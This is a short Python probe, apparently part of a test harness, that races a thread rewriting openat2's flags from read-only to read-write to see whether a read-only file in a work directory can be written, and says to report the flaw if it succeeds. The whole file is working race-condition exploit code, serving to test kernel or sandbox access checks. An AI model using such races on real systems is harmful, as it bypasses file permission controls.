"""A thread rewrites the flags of an openat2 from reading to writing."""

import ctypes
import os
import struct

from attack import WORK, call, main
from race import Race, until_won

PROMISE = "the flags that were judged are the flags that are used"
CONTROL = "the file that may only be read is written to"
ADVICE = "report it: the structure of openat2 is copied once"


def attempt() -> bool:
    race = Race(struct.pack("=QQQ", os.O_RDONLY, 0, 0), struct.pack("=QQQ", os.O_RDWR, 0, 0))
    race.by_thread()

    def write() -> bool:
        opened = call("openat2", -100, f"{WORK}/readable", ctypes.c_void_p(race.address), 24)
        try:
            return os.write(opened, b"b") == 1
        finally:
            os.close(opened)

    return until_won(write)


main(attempt)
